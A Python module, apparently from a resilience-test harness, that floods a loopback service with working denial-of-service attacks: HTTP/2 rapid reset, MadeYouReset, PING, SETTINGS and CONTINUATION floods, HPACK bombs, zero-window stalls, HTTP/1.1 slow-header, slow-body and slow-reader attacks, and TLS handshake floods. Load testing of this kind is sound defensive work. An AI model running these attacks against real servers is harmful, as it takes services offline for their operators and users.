"""One attack on a port, again and again until it is ended: `python3 -m runner.attacker NAME PORT HOST`. It prints, at its end, how
many connections it opened and how many of them the other side ended. Of its own it knows bytes only."""

import json
import signal
import socket
import ssl
import sys
import time

# Whoever counts by address counts the attacker apart from the good clients.
SOURCE = "127.0.0.2"
# Time between two pieces of a flood: one core is shared with the good clients and the service.
PAUSE_SECONDS = 0.002
DRIP_SECONDS = 0.1
HELD = 200
STREAMS = 50
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def integer(value):
    """A length in HPACK (RFC 7541 5.1), below 127 + 128 * 128."""
    if value < 127:
        return bytes([value])
    value -= 127
    return bytes([127, value]) if value < 128 else bytes([127, value & 127 | 128, value >> 7])


def fields(*pairs):
    return b"".join(b"\x10" + integer(len(name)) + name + integer(len(value)) + value for name, value in pairs)


class Attacker:
    def __init__(self, port, host):
        self.port, self.host = port, host
        self.opened = self.ended = 0

    def open(self, protocol):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        link = socket.create_connection(("127.0.0.1", self.port), 5, (SOURCE, 0))
        self.opened += 1
        return context.wrap_socket(link, server_hostname=self.host)

    def head(self, path=b"/orders/1", method=b"GET"):
        return fields((b":method", method), (b":scheme", b"https"), (b":authority", self.host.encode()), (b":path", path))

    def flood(self, before, piece):
        """Sends pieces until the other side ends it; `piece` gets the number of the next stream."""
        link, number = self.open("h2"), 1
        try:
            link.sendall(PREFACE + frame(4, 0, 0) + before)
            link.settimeout(1)
            while True:
                more, number = piece(number)
                link.sendall(more)
                self.listen(link)
                time.sleep(PAUSE_SECONDS)
        except OSError:
            self.ended += 1
        finally:
            link.close()

    @staticmethod
    def listen(link):
        """Takes what is there; the end is an error."""
        link.setblocking(False)
        try:
            while True:
                if not link.recv(65536):
                    raise ConnectionResetError
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            link.settimeout(1)

    def hold(self, protocol, sent, count, drip=b""):
        """Connections that say this, then a byte now and then, and are opened anew where they are ended."""
        held = []
        while True:
            while len(held) < count:
                link = self.open(protocol)
                link.sendall(sent)
                link.settimeout(0.2)
                held.append(link)
            time.sleep(DRIP_SECONDS)
            for link in held[:]:
                try:
                    if drip:
                        link.sendall(drip)
                except OSError:
                    self.ended += 1
                    held.remove(link)
                    link.close()

    def attack(self, name):
        head, host = self.head(), self.host.encode()
        same = lambda data: lambda number: (data, number)
        resets = lambda number: (b"".join(
            frame(1, 5, number + 2 * at, head) + frame(3, 0, number + 2 * at, b"\0\0\0\x08") for at in range(50)), number + 100)
        broken = lambda number: (b"".join(
            frame(1, 5, number + 2 * at, head) + frame(8, 0, number + 2 * at, bytes(4)) for at in range(50)), number + 100)
        bomb = head + b"\x40\x01x\x01y" + b"\xbe" * 15_000
        bombs = lambda number: (frame(1, 5, number, bomb), number + 2)
        zero = PREFACE + frame(4, 0, 0, b"\0\4" + bytes(4)) + b"".join(
            frame(1, 5, 2 * at + 1, self.head(b"/big")) for at in range(STREAMS))
        simple = b" HTTP/1.1\r\nhost: " + host + b"\r\n"
        attacks = {
            "h2 rapid reset": lambda: self.flood(b"", resets),
            "h2 MadeYouReset": lambda: self.flood(b"", broken),
            "h2 PING": lambda: self.flood(b"", same(frame(6, 0, 0, bytes(8)) * 200)),
            "h2 SETTINGS": lambda: self.flood(b"", same(frame(4, 0, 0) * 200)),
            "h2 CONTINUATION": lambda: self.flood(frame(1, 1, 1, head), same(frame(9, 0, 1, fields((b"x-a", b"b" * 16_000))))),
            "h2 HPACK bombs": lambda: self.flood(b"", bombs),
            "h2 zero windows": lambda: self.hold("h2", zero, 4),
            "h1 slow heads": lambda: self.hold("http/1.1", b"GET /orders/1" + simple + b"x-a: ", HELD, b"x"),
            "h1 slow bodies": lambda: self.hold(
                "http/1.1", b"POST /orders" + simple + b"content-type: application/json\r\ncontent-length: 100000\r\n\r\n", HELD, b" "),
            "h1 slow readers": lambda: self.hold("http/1.1", b"GET /big" + simple + b"\r\n", HELD // 4),
            "handshakes": self.handshakes,
        }
        while True:
            try:
                attacks[name]()
            except OSError:
                # Not let in: so is the attack over for a moment.
                time.sleep(DRIP_SECONDS)

    def handshakes(self):
        while True:
            self.open("http/1.1").close()


def main():
    name, port, host = sys.argv[1:]
    attacker = Attacker(int(port), host)

    def stop(*_):
        raise SystemExit
    signal.signal(signal.SIGTERM, stop)
    try:
        attacker.attack(name)
    finally:
        print(json.dumps({"opened": attacker.opened, "ended": attacker.ended}), flush=True)


if __name__ == "__main__":
    main()
